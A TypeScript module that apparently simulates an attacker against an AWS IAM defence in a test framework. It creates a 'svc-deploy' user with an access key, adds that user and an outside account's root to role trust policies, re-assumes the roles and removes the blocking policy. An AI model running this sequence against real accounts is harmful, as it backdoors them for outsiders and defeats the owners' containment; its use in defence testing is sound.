import { z } from 'zod'
import type { Actor } from '../actor.js'
import { type AttackerOptions, defineAttacker } from './attacker.js'
import { Holdings } from './holdings.js'
import { outsideAccountId } from './outside-account.js'
import { PolicyWatch } from './policy-watch.js'
import { rolesInReach } from './roles-in-reach.js'
import { Tasks } from './tasks.js'

const roleReply = z.object({ Role: z.object({ Arn: z.string(), AssumeRolePolicyDocument: z.string() }) })
const identityReply = z.object({ Arn: z.string() })
const trustPolicy = z.looseObject({ Statement: z.union([z.array(z.json()), z.json()]) })
const newUserName = 'svc-deploy'

/**
 * Writes a user of its own and an account outside into the trust policies of its role and of another, comes back
 * through them, and takes the block away as the other role. The user needs no permission of its own: within one
 * account a trust policy that names the caller is enough.
 */
export const changeTrust = defineAttacker({
  name: 'change-trust',
  summary: 'lets its own user and an outside account into two roles, re-assumes them and deletes the block from there',
  create: (options) => {
    const holdings = new Holdings(options)
    const watch = PolicyWatch.ofPrincipal(options)
    watch.foreign(holdings.first)
    const intrusion = new Intrusion(holdings, options)
    let isProvoked = options.actsAt === 'once'
    const step = () => {
      holdings.work()
      isProvoked ||= watch.foreign(holdings.first).length > 0
      if (isProvoked) intrusion.advance()
      for (const actor of holdings.gained()) watch.strip(actor)
    }
    return { step, credentials: () => holdings.credentials() }
  },
})

/** The accomplice first, then the doors, then through them. */
class Intrusion {
  readonly #holdings: Holdings
  readonly #options: AttackerOptions
  readonly #doors: Tasks
  readonly #entries: Tasks
  readonly #opened: string[] = []
  #accomplice: Actor | undefined

  constructor(holdings: Holdings, options: AttackerOptions) {
    this.#holdings = holdings
    this.#options = options
    const { roleName, accompliceName } = options
    this.#accomplice = accompliceName === undefined ? undefined : holdings.holdUser(accompliceName)
    const others = () => rolesInReach(holdings.first, options).map(({ RoleName }) => RoleName)
    this.#doors = new Tasks([
      ...(roleName === undefined ? [] : [() => this.#open(roleName)]),
      () => others().some((name) => this.#open(name)),
    ])
    this.#entries = new Tasks([() => this.#enter(0), ...(roleName === undefined ? [] : [() => this.#enter(1)])])
  }

  advance(): void {
    this.#accomplice ??= this.#makeAccomplice()
    if (this.#accomplice === undefined) return
    this.#doors.attempt()
    this.#entries.attempt()
  }

  #makeAccomplice(): Actor | undefined {
    const { first } = this.#holdings
    const parameters = { UserName: newUserName }
    first.call({ service: 'iam', action: 'CreateUser', parameters })
    return this.#holdings.obtain(first, { service: 'iam', action: 'CreateAccessKey', parameters })
  }

  #open(RoleName: string): boolean {
    const { first } = this.#holdings
    const role = roleReply.safeParse(replyOf(first, 'GetRole', { RoleName })).data?.Role
    const statement = this.#backdoor()
    if (role === undefined || statement === undefined) return false
    const trust = trustPolicy.parse(JSON.parse(decodeURIComponent(role.AssumeRolePolicyDocument)))
    const PolicyDocument = JSON.stringify({ ...trust, Statement: [trust.Statement, statement].flat() })
    const isOpen = first.call({
      service: 'iam',
      action: 'UpdateAssumeRolePolicy',
      parameters: { RoleName, PolicyDocument },
    }).ok
    if (isOpen) this.#opened.push(role.Arn)
    return isOpen
  }

  #backdoor() {
    const reply = this.#accomplice?.call({ service: 'sts', action: 'GetCallerIdentity' })
    const arn = reply?.ok ? identityReply.parse(reply.result).Arn : undefined
    const outside = `arn:${this.#options.account.partition}:iam::${outsideAccountId}:root`
    return arn && { Effect: 'Allow', Principal: { AWS: [outside, arn] }, Action: 'sts:AssumeRole' }
  }

  #enter(door: number): boolean {
    const RoleArn = this.#opened[door]
    if (RoleArn === undefined || this.#accomplice === undefined) return false
    const parameters = { RoleArn, RoleSessionName: 'maintenance' }
    return this.#holdings.obtain(this.#accomplice, { service: 'sts', action: 'AssumeRole', parameters }) !== undefined
  }
}

function replyOf(actor: Actor, action: string, parameters: Record<string, string>) {
  const reply = actor.call({ service: 'iam', action, parameters })
  return reply.ok ? reply.result : undefined
}
